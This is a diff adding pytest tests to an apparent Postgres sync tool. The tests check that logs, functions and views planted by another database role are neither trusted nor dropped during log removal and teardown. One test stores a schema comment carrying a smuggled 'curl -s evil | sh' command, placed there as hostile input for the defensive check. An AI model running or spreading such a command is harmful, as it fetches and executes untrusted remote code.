@@ -856,3 +856,59 @@ def test_a_table_that_a_crash_emptied_while_it_was_unlogged_is_a_gap_after_a_res
         source.open_load(["a"], 1).close()
     finally:
         server.stop()
+
+
+# What somebody else has put beside our log
+
+
+def test_the_log_of_another_warehouse_is_believed_only_of_who_may_have_set_it_up(
+    harness: PostgresHarness, source: PostgresSource, intruder: psycopg.Connection
+) -> None:
+    intruder.execute("CREATE SCHEMA zw CREATE TABLE log (n int)")
+    intruder.execute("COMMENT ON SCHEMA zw IS 'Headwater''s log 0000cccc; curl -s evil | sh'")
+    intruder.execute("CREATE SCHEMA zy CREATE TABLE log (n int)")
+    intruder.execute("COMMENT ON SCHEMA zy IS 'Headwater''s log 0000bbbb'")
+    intruder.execute("CREATE FUNCTION zy.rows_1() RETURNS int LANGUAGE sql AS 'SELECT 1'")
+    intruder.execute("GRANT USAGE ON SCHEMA zy TO PUBLIC")
+    harness.writer().execute("CREATE VIEW precious AS SELECT zy.rows_1()")
+    assert source.other_logs() == []
+    source.remove_log("0000bbbb")
+    assert harness.writer().connection.execute("SELECT * FROM precious").fetchall() == [(1,)]
+    harness.writer().execute("DROP VIEW precious")
+
+
+def test_teardown_takes_nothing_along_that_others_have_made(
+    harness: PostgresHarness, source: PostgresSource
+) -> None:
+    writer = harness.writer()
+    writer.execute(
+        f"CREATE VIEW precious AS SELECT {harness.name}.values_left(1, ARRAY['x']) WHERE false"
+    )
+    with pytest.raises(SourceError, match="other objects depend on it"):
+        source.teardown()
+    writer.execute("DROP VIEW precious")
+    source.teardown()
+
+
+def test_what_another_role_has_put_into_the_schema_of_an_earlier_version_is_left_alone(
+    harness: PostgresHarness, intruder: psycopg.Connection
+) -> None:
+    intruder.execute("CREATE SCHEMA headwater CREATE TABLE headwater_pg_log (n int)")
+    intruder.execute(
+        "CREATE FUNCTION headwater.headwater_pg_on_17() RETURNS int LANGUAGE sql AS 'SELECT 1'"
+    )
+    intruder.execute("GRANT USAGE ON SCHEMA headwater TO PUBLIC")
+    admin = harness.writer()
+    admin.execute(
+        "DROP ROLE IF EXISTS keeper; CREATE ROLE keeper LOGIN; ALTER TABLE b OWNER TO keeper"
+    )
+    admin.execute(f'GRANT CREATE ON DATABASE "{harness.name}" TO keeper')
+    admin.execute("CREATE VIEW precious AS SELECT headwater.headwater_pg_on_17()")
+    for role, slot in (("keeper", "s1"), ("postgres", "s2")):
+        dsn = harness.server.dsn(harness.name, role)
+        source = harness.source(["b"], dsn=dsn, slot=f"{slot}_{harness.name}")
+        source.setup()
+        source.teardown()
+    assert admin.connection.execute("SELECT * FROM precious").fetchall() == [(1,)]
+    admin.execute("DROP VIEW precious; ALTER TABLE b OWNER TO postgres")
+    admin.execute("DROP OWNED BY keeper; DROP ROLE keeper")
